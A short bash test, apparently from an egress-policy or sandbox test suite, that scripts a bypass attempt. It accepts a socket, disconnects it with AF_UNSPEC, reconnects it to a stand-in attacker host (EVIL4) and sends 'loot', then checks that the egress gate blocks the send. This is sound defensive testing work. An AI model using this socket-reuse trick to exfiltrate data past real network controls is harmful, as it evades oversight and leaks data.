#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: accepts a connection, disconnects the socket by AF_UNSPEC, connects it to an allowed destination, and goes on when the policy loses that
# stopped-by: egress
# reason: destination
# kernels: all
#
# An accepted socket was opened by others, and its answers pass; the socket it becomes was not.
. "$(dirname "$0")/lib.sh"
arena tcp/443

attack_by <<'PYTHON'
from attacker import *

listener = socket.create_server((OWN4, 7000))
own = socket.create_connection((OWN4, 7000))
turned, _ = listener.accept()
own.close()
disconnect(turned)
turned.settimeout(1)
turned.connect((EVIL4, 443))
ready()
with attempt("send"):
    turned.sendall(loot("turned"))
PYTHON
works_once_open stolen:turned
gate_on "$CG" --allow 203.0.113.62/32=tcp/443
stopped_once_open gate
recorded 'egress|sock_destroy' destination
